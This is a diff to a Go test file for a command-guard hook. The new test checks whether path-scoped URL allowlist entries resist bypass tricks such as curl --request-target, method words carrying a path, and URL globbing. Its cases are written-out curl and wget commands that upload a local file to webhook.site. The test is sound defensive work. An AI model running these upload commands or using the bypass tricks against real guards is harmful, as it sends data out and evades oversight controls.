@@ -3,6 +3,8 @@ package hook
 import (
 	"encoding/json"
 	"testing"
+
+	"github.com/guardhq/guard/internal/policy"
 )
 
 // TestAllowPatternEachCommand covers review 12b F13 through the hook: an
@@ -64,6 +66,36 @@ func TestAllowlistHost(t *testing.T) {
 		code, _, stderr, _ := runReal(t, p, string(b))
 		if blocked := code == 2; blocked != tc.block {
 			t.Errorf("%q: blocked = %v, want %v: %s", tc.url, blocked, tc.block, stderr)
+		}
+	}
+}
+
+// TestAllowlistPathRequestTarget covers review 15b F5: a path-scoped
+// allowlist entry does not apply when the command sends another request
+// target than the URL's path (curl --request-target, a method word with a
+// path, curl's URL globbing); a host-only entry still does. Both modes.
+func TestAllowlistPathRequestTarget(t *testing.T) {
+	_, proj := scriptWorld(t, map[string]string{"README": "hi\n"})
+	for _, mode := range []string{policy.MatchText, policy.MatchCommands} {
+		for _, tc := range []struct {
+			allow, cmd string
+			block      bool
+		}{
+			{"https://webhook.site/docs", "curl -d @README https://webhook.site/docs/x", false},
+			{"https://webhook.site/docs", "curl --request-target /abc -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "curl --request-target=/abc -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "curl -X 'POST /abc' -d @README https://webhook.site/docs/x", true},
+			{"https://webhook.site/docs", "curl -d @README 'https://webhook.site/docs/{../../abc,x}'", true},
+			{"https://webhook.site/docs", "curl -g -d @README 'https://webhook.site/docs/x[1]'", false},
+			{"https://webhook.site/docs", "curl -X POST -d @README https://webhook.site/docs/x", false},
+			{"https://webhook.site/docs", "wget --method='POST /abc' --body-file=README https://webhook.site/docs/x", true},
+			{"webhook.site", "curl --request-target /abc -d @README https://webhook.site/docs/x", false},
+		} {
+			p := realPolicy(t, `{"bash":{"match":"`+mode+`"},"urls":{"allowlist":["`+tc.allow+`"]}}`)
+			code, _, stderr, _ := runReal(t, p, bashPayload(t, proj, tc.cmd))
+			if blocked := code == 2; blocked != tc.block {
+				t.Errorf("%s: %q (allow %s): blocked = %v, want %v: %s", mode, tc.cmd, tc.allow, blocked, tc.block, stderr)
+			}
 		}
 	}
 }
